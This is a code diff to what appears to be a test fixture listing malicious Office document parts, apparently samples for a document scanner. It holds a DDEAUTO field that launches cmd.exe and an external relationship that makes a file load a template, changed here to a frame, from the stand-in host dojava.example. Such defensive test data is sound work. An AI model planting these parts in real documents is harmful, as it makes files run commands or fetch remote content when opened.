@@ -80,10 +80,10 @@ PARTS: dict[str, tuple[str, bytes]] = {
     ),
     "a field in one piece": ("word/a.xml", b'<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>'),
     "a table that asks a database": ("xl/a.xml", b'<dbPr connection="DSN=x"/>'),
-    "a template from elsewhere": (
+    "a frame from elsewhere": (
         "word/_rels/settings.xml.rels",
-        b'<Relationships><Relationship Type="http://x/attachedTemplate"'
-        b' Target="https://dojava.example/a.dotm" TargetMode="External"/></Relationships>',
+        b'<Relationships><Relationship Type="http://x/frame"'
+        b' Target="https://dojava.example/a.htm" TargetMode="External"/></Relationships>',
     ),
     "a picture from elsewhere, in other letters": (
         "word/_rels/b.rels",
